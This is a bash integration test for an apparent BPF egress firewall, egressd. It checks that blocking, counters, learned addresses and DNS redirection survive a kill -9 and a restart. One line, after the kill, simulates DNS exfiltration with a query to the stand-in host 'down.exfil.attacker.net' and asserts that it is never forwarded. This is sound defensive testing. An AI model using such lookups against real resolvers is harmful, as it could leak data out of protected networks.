#!/usr/bin/env bash
# shellcheck source-path=SCRIPTDIR disable=SC2119,SC2317
# SPDX-License-Identifier: GPL-2.0-only
#
# Fail closed across kill -9 (docs/bpf.md "Pinning and restarts"): the
# pinned link keeps the program attached and the pinned maps keep the
# policy, so a blocked address stays blocked (and counted) while egressd
# is dead, and a learned address stays reachable. A restart adopts the
# pins: while it happens, a bounded loop of connects to the blocked address
# (20 tries, 100 ms apart) never succeeds; afterwards the start line says
# bpf enforce, the same link (id) and the same maps (ids) are in use, and
# the violation records left in the pinned ring buffer while egressd was
# down are reported by the new agent.

# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=bpflib.sh
. "$(dirname "$0")/bpflib.sh"

bpf_init
start_upstream
inet_addr "10.200.$X.82"
start_servers web "tcp:$WEB4:80" "tcp:10.200.$X.81:80" "tcp:10.200.$X.82:80"
start_egressd_bpf --rules "$POLICY"
assert_eq "first start: layers.bpf.state enforce" enforce \
	"$(json_field "$T/egressd.out" start layers.bpf.state)"
link0=$(bpf_link_field id)
prog0=$(bpf_link_field prog_id)
map0=$(bpf_map_id learned_v4)
if [ -z "$link0" ] || [ -z "$prog0" ]; then
	die "no pinned link: $(ls -R "$PIN" 2>&1)"
fi
egit_log "link $link0, program $prog0, learned_v4 map $map0"
dns0=$(bpf_dns_links)
assert_eq "first start: port 53 redirected by BPF" bpf \
	"$(json_field "$T/egressd.out" start layers.dns.redirect)"
assert_eq "first start: 8 DNS redirect links pinned" 8 "$(grep -c . <<<"$dns0")"

q @"$DNS4" api.github.com A
assert_eq "api.github.com A answered" "NOERROR $WEB4" "$Q_STATUS $Q_ANSWER"
assert_connects "learned $WEB4:80 connects" "$WEB4" 80
assert_blocked "10.200.$X.81:80 blocked" "10.200.$X.81" 80

# kill -9: nothing gets a chance to clean up.
kill -KILL "$EGRESSD_PID"
wait "$EGRESSD_PID" 2>/dev/null
EGRESSD_PID=
cp "$T/egressd.out" "$T/egressd.out.1"
if [ -n "$(bpf_link_pin)" ]; then pass "after kill -9: the link pin is still there"; else fail "after kill -9: the link pin is still there" "$(ls -R "$PIN" 2>&1)"; fi
if bpftool cgroup show "$CG/workload" 2>/dev/null | grep -q "$prog0"; then
	pass "after kill -9: program $prog0 still attached to the workload cgroup"
else
	fail "after kill -9: program $prog0 still attached" "$(bpftool cgroup show "$CG/workload" 2>&1)"
fi
dd0=$(bpf_counter default_deny)
assert_tcp_blocked "after kill -9: 10.200.$X.81:80 still blocked" "10.200.$X.81" 80
assert_tcp_blocked "after kill -9: 10.200.$X.82:80 (never allowed) blocked" "10.200.$X.82" 80
dd1=$(bpf_counter default_deny)
if [ "$dd1" -gt "$dd0" ]; then pass "after kill -9: BPF still counts the drops ($dd0 -> $dd1)"; else fail "after kill -9: BPF still counts the drops" "$dd0 -> $dd1"; fi
assert_connects "after kill -9: learned $WEB4:80 still connects (pinned maps)" "$WEB4" 80
# DNS fails closed: still redirected to the proxy's port, where nobody
# listens, so a query gets no answer and never reaches the upstream.
q @"$DNS4" down.exfil.attacker.net A
assert_eq "after kill -9: a query gets no answer" TIMEOUT "$Q_STATUS"
assert_not_forwarded "after kill -9: the query did not reach the upstream" down.exfil.attacker.net

# Restart while a bounded probe loop hammers the blocked address.
tcp_probe "$SB" "$CG/workload" "10.200.$X.81" 80 20 0.1 0.1 >"$T/probe.log" 2>&1 &
probe=$!
EGIT_PIDS+=("$probe")
sleep 0.5
t0=$(now_ms)
start_egressd_bpf --rules "$POLICY"
egit_log "restart took $(($(now_ms) - t0)) ms; probe tries so far: $(wc -l <"$T/probe.log")"
wait "$probe"
tries=$(grep -c . "$T/probe.log")
oks=$(grep -c '^ok' "$T/probe.log")
assert_eq "probe loop ran its 20 tries across the restart" 20 "$tries"
assert_eq "no connect to 10.200.$X.81:80 succeeded during the restart" 0 "$oks"
if server_got web "tcp 10.200.$X.81 80 $SB4"; then
	fail "the blocked host never saw a connection from the workload" "$(cat "$T/servers-web.log")"
else
	pass "the blocked host never saw a connection from the workload"
fi

assert_eq "restart: layers.bpf.state enforce" enforce \
	"$(json_field "$T/egressd.out" start layers.bpf.state)"
assert_eq "restart: the same link is in use" "$link0" "$(bpf_link_field id)"
prog1=$(bpf_link_field prog_id)
egit_log "program after restart: $prog1 (was $prog0)"
if bpftool cgroup show "$CG/workload" 2>/dev/null | grep -qw "$prog1" &&
	[ "$(bpftool cgroup show "$CG/workload" 2>/dev/null | grep -c cgroup_inet_egress)" = 1 ]; then
	pass "restart: exactly one egress program on the workload cgroup (id $prog1)"
else
	fail "restart: exactly one egress program on the workload cgroup" "$(bpftool cgroup show "$CG/workload" 2>&1)"
fi
assert_eq "restart: the pinned learned_v4 map was reused" "$map0" "$(bpf_map_id learned_v4)"
assert_eq "restart: the same 8 DNS redirect links (programs swapped in place)" "$dns0" "$(bpf_dns_links)"
q @"$DNS4" api.github.com A
assert_eq "restart: DNS answered again" "NOERROR $WEB4" "$Q_STATUS $Q_ANSWER"
if bpf_map_has learned_v4 "$WEB4"; then pass "restart: learned $WEB4 survived"; else fail "restart: learned $WEB4 survived" "$(bpf_map_text learned_v4)"; fi
assert_eq "restart: one table inet egressd" 1 "$(nft_tables_named egressd inet)"

# Records left in the pinned ring buffer while down reach the new agent.
wait_json_line "restart: the drop of 10.200.$X.82 made while egressd was down is reported" \
	"$T/egressd.out" event=violation layer=packet reason=default_deny action=drop \
	dst="10.200.$X.82" dport=80

# The new agent enforces and reports.
assert_tcp_blocked "after restart: 10.200.$X.81:80 blocked" "10.200.$X.81" 80
wait_json_line "after restart: violation line for 10.200.$X.81" "$T/egressd.out" \
	event=violation layer=packet reason=default_deny action=drop dst="10.200.$X.81" dport=80
assert_connects "after restart: learned $WEB4:80 connects" "$WEB4" 80
assert_all_json "stdout holds only JSON lines (first run)" "$T/egressd.out.1"
assert_all_json "stdout holds only JSON lines (restart)" "$T/egressd.out"
egit_finish
